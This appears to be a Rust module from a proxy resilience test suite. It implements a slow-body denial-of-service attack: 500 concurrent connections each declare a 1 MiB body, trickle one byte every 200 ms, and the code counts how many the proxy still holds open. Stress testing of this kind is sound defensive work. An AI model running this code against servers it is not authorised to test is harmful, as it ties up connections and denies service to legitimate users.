//! Bodies that arrive byte by byte.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use futures_util::future::join_all;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use super::chat_head;

/// Number of bodies.
const BODIES: usize = 500;

/// Declared size of each body in bytes.
const LENGTH: usize = 1024 * 1024;

/// Pause between two bytes.
const PAUSE: Duration = Duration::from_millis(200);

pub(super) async fn attack(target: SocketAddr, length: Duration) -> Result<String, String> {
    let bodies = join_all((0..BODIES).map(|_| body(target, length))).await;
    Ok(format!("{} of {BODIES} still accepted at the end", bodies.into_iter().filter(|is_taken| *is_taken).count()))
}

/// Sends a body. Returns `false` if the proxy ended it.
async fn body(target: SocketAddr, length: Duration) -> bool {
    let started = Instant::now();
    let Ok(mut socket) = TcpStream::connect(target).await else { return false };
    if socket.write_all(chat_head(LENGTH).as_bytes()).await.is_err() {
        return false;
    }
    while started.elapsed() < length {
        if socket.write_all(b"x").await.is_err() {
            return false;
        }
        tokio::time::sleep(PAUSE).await;
    }
    true
}
